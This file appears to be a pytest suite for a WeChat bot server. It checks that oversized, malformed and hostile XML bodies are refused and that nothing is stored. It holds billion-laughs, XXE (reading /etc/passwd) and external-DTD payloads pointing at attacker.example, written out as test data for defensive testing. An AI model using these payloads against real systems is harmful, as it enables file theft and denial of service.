"""Hostile or broken bodies are refused before anything is parsed or stored."""

from __future__ import annotations

import pytest

from bot.context import Outcome, Turn
from tests.wechat import message_xml

from .support import (
    MENU,
    compat_body,
    count,
    echo_router,
    new_msg_id,
    router_for,
    say,
    text_xml,
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?>'
    '<!DOCTYPE xml [<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    "<xml><ToUserName><![CDATA[gh_test_account]]></ToUserName>"
    "<FromUserName><![CDATA[attacker]]></FromUserName><CreateTime>{now}</CreateTime>"
    "<MsgType><![CDATA[text]]></MsgType><Content>&lol3;</Content><MsgId>{msg_id}</MsgId></xml>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml><ToUserName><![CDATA[gh_test_account]]></ToUserName>"
    "<FromUserName><![CDATA[attacker]]></FromUserName><CreateTime>{now}</CreateTime>"
    "<MsgType><![CDATA[text]]></MsgType><Content>&xxe;</Content><MsgId>{msg_id}</MsgId></xml>"
)
DOCTYPE_ONLY = (
    '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">'
    "<xml><ToUserName>gh</ToUserName><FromUserName>a</FromUserName>"
    "<CreateTime>{now}</CreateTime><MsgType>text</MsgType><Content>x</Content>"
    "<MsgId>{msg_id}</MsgId></xml>"
)
HOSTILE = {"billion-laughs": BILLION_LAUGHS, "xxe": XXE, "doctype": DOCTYPE_ONLY}


def _nothing_stored(db_path) -> bool:
    return count(db_path, "messages") == 0 and count(db_path, "processed") == 0


async def _still_answers(wechat) -> None:
    reply = await wechat.text("user-ok", "你好")
    assert reply.status == 200
    assert MENU in reply.content


# -- size ----------------------------------------------------------------------------------


async def test_body_over_64_kib_is_refused(wechat, db_path):
    xml = text_xml("user-big", "长" * 22_000, int(wechat.clock()))  # ~66 KB of UTF-8
    assert len(xml.encode()) > 65536
    reply = await wechat.post(xml)
    assert reply.status == 413
    assert _nothing_stored(db_path)
    await _still_answers(wechat)


async def test_body_just_under_the_limit_is_accepted(make_wechat, db_path):
    wechat = await make_wechat(router=echo_router())
    xml = text_xml("user-big", "x" * 60_000, int(wechat.clock()))
    assert len(xml.encode()) < 65536
    reply = await wechat.post(xml)
    assert reply.status == 200


async def test_configured_max_body_is_enforced(make_wechat, settings, db_path):
    wechat = await make_wechat(settings.with_overrides(max_body_bytes=2048))
    small = text_xml("user-big", "短", int(wechat.clock()))
    big = text_xml("user-big", "x" * 3000, int(wechat.clock()))
    assert (await wechat.post(big)).status == 413
    assert _nothing_stored(db_path)
    assert (await wechat.post(small)).status == 200


async def test_oversized_chunked_body_without_length_is_refused(make_wechat, settings, db_path):
    wechat = await make_wechat(settings.with_overrides(max_body_bytes=4096))
    xml = text_xml("user-big", "x" * 20_000, int(wechat.clock()))
    query, body = wechat.build(xml)

    async def chunks():
        data = body.encode()
        for i in range(0, len(data), 1000):
            yield data[i : i + 1000]

    resp = await wechat.client.post("/wechat", params=query, data=chunks())
    assert resp.status == 413
    assert _nothing_stored(db_path)
    await _still_answers(wechat)


# -- malformed and hostile XML -------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><ToUserName>gh</ToUserName>",  # truncated
        b"not xml at all",
        b"",
        b"<notxml><FromUserName>a</FromUserName></notxml>",
        "<xml><Content>\udcff</Content></xml>".encode("utf-8", "surrogatepass"),
    ],
    ids=["truncated", "garbage", "empty", "wrong-root", "invalid-utf8"],
)
async def test_malformed_body_is_bad_request(wechat, db_path, body):
    xml = text_xml("u", "x", int(wechat.clock()))
    reply = await wechat.post(xml, body=body)
    assert reply.status == 400
    assert _nothing_stored(db_path)
    await _still_answers(wechat)


@pytest.mark.parametrize("name", sorted(HOSTILE))
async def test_dtd_and_entities_are_refused_and_nothing_stored(wechat, db_path, name):
    xml = HOSTILE[name].format(now=int(wechat.clock()), msg_id=new_msg_id())
    reply = await wechat.post(xml)
    assert reply.status == 400
    assert "root:" not in reply.body and "lollol" not in reply.body
    assert _nothing_stored(db_path)
    await _still_answers(wechat)


@pytest.mark.parametrize("mode", ["compat", "safe"])
@pytest.mark.parametrize("name", sorted(HOSTILE))
async def test_encrypted_payload_decrypting_to_a_dtd_is_refused(wechat, db_path, name, mode):
    xml = HOSTILE[name].format(now=int(wechat.clock()), msg_id=new_msg_id())
    if mode == "compat":
        # The plaintext copy must not carry the DTD, or the envelope check alone would
        # catch it: send a clean plaintext copy with the hostile encrypted one.
        query, body = wechat.build(xml, mode="safe")
        body = compat_body(body, text_xml("attacker", "x", int(wechat.clock())))
        reply = await wechat.post(xml, mode="safe", query=query, body=body.encode())
    else:
        reply = await wechat.post(xml, mode="safe")
    assert reply.status == 400
    assert _nothing_stored(db_path)
    await _still_answers(wechat)


async def test_hostile_envelope_in_safe_mode_is_refused(wechat, db_path):
    xml = text_xml("u", "x", int(wechat.clock()))
    query, body = wechat.build(xml, mode="safe")
    hostile = body.replace("<xml>", '<!DOCTYPE xml [<!ENTITY a "b">]><xml>')
    reply = await wechat.post(xml, mode="safe", query=query, body=hostile.encode())
    assert reply.status == 400
    assert _nothing_stored(db_path)


async def test_safe_mode_envelope_without_encrypt_is_bad_request(wechat, db_path):
    xml = text_xml("u", "x", int(wechat.clock()))
    query, _ = wechat.build(xml, mode="safe")
    reply = await wechat.post(xml, mode="safe", query=query, body=xml.encode())
    assert reply.status == 400
    assert _nothing_stored(db_path)


# -- CDATA terminators in user text --------------------------------------------------------


def _echo_exact():
    async def echo(turn: Turn) -> Outcome:
        return turn.stay(say(turn.text))

    return router_for(echo)


TRICKY = [
    "a]]>b",
    "]]>",
    "结尾]]>",
    "]]]]><![CDATA[>",
    "<xml><Content>x</Content></xml>",
    "&amp; &lt; ' \" ]]> ]]>",
]


@pytest.mark.parametrize("mode", ["plain", "compat", "safe"])
@pytest.mark.parametrize("text", TRICKY)
async def test_cdata_terminator_in_user_text_never_breaks_the_reply(make_wechat, text, mode):
    wechat = await make_wechat(router=_echo_exact())
    xml = message_xml("user-cdata", "text", int(wechat.clock()), Content=text, MsgId=new_msg_id())
    if mode == "compat":
        # (WeChat.build's compat mode would split a "</xml>" inside the user's CDATA.)
        query, body = wechat.build(xml, mode="safe")
        reply = await wechat.post(
            xml, mode="compat", query=query, body=compat_body(body, xml).encode()
        )
    else:
        reply = await wechat.post(xml, mode=mode)  # post() parses the reply XML strictly
    assert reply.status == 200
    assert reply.content == text
    assert reply.fields["ToUserName"] == "user-cdata"
    assert reply.fields["MsgType"] == "text"


async def test_cdata_terminator_in_openid_never_breaks_the_reply(make_wechat):
    wechat = await make_wechat(router=_echo_exact())
    xml = message_xml("od]]>x", "text", int(wechat.clock()), Content="hi", MsgId=new_msg_id())
    reply = await wechat.post(xml)
    assert reply.status == 200
    assert reply.fields["ToUserName"] == "od]]>x"
    assert reply.content == "hi"
